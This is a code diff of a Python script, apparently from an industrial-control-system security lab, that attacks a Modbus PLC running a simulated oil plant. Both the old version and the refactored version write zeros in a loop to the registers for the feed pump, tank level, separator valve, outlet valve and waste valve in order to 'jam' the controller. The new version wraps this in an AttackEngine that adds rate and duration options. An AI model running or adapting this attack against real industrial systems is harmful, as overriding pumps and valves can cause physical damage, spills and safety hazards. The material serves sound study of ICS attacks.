@@ -1,7 +1,5 @@
 #!/usr/bin/env python
 
-from pymodbus.client.sync import ModbusTcpClient as ModbusClient
-from pymodbus.exceptions import ConnectionException
 import logging
 
 import argparse
@@ -9,6 +7,11 @@ import os
 import sys
 import time
 
+# Plant register tags (which also puts the shared modules on the path)
+sys.path.append(os.path.join(os.path.dirname(os.path.abspath(__file__)), '..'))
+from oil_tags import *
+from attack_engine import AttackEngine, add_arguments
+
 # Override Argument parser to throw error and generate help message
 # if undefined args are passed
 class MyParser(argparse.ArgumentParser):
@@ -26,6 +29,7 @@ parser = MyParser(
 # Add a "-i" argument to receive a filename
 parser.add_argument("-t", action = "store", dest="target",
 					help = "Target modbus IP address")
+add_arguments(parser, 5020)
 
 # Print help if no args are supplied
 if len(sys.argv)==1:
@@ -43,25 +47,18 @@ log.setLevel(logging.INFO)
 #####################################
 # Code
 #####################################git c
-client = ModbusClient(args.target, port=5020)
-
-try:
-    client.connect()
-    print ". . . Connecting to PLC"
-    print ". . . Please wait."
-    time.sleep(3)
-    print ". . . Attacking PLC at " + args.target + ":5020"
-    time.sleep(1)
-    print ". . . Attack successful!"
-    print ". . . Jamming all PLC commands!"
-    while True:
-        rq = client.write_register(0x01, 0) # Run Plant, Run!
-        rq = client.write_register(0x02, 0) # Level Sensor
-        rq = client.write_register(0x04, 0) # Limit Switch
-        rq = client.write_register(0x03, 0) # Outlet valve
-        rq = client.write_register(0x08, 0) # Waste valve
-
-except KeyboardInterrupt:
-    client.close()
-except ConnectionException:
-    print "Unable to connect / Connection lost"
+print ". . . Connecting to PLC"
+print ". . . Please wait."
+time.sleep(3)
+print ". . . Attacking PLC at %s:%d" % (args.target, args.port)
+time.sleep(1)
+print ". . . Attack successful!"
+print ". . . Jamming all PLC commands!"
+engine = AttackEngine(args.target, args.port, tags, {
+    PLC_FEED_PUMP: 0, # Run Plant, Run!
+    PLC_TANK_LEVEL: 0, # Level switch
+    PLC_SEP_VALVE: 0, # Separator valve
+    PLC_OUTLET_VALVE: 0, # Outlet valve
+    PLC_WASTE_VALVE: 0, # Waste valve
+}, rate=args.rate, window=args.window, duration=args.duration)
+engine.run()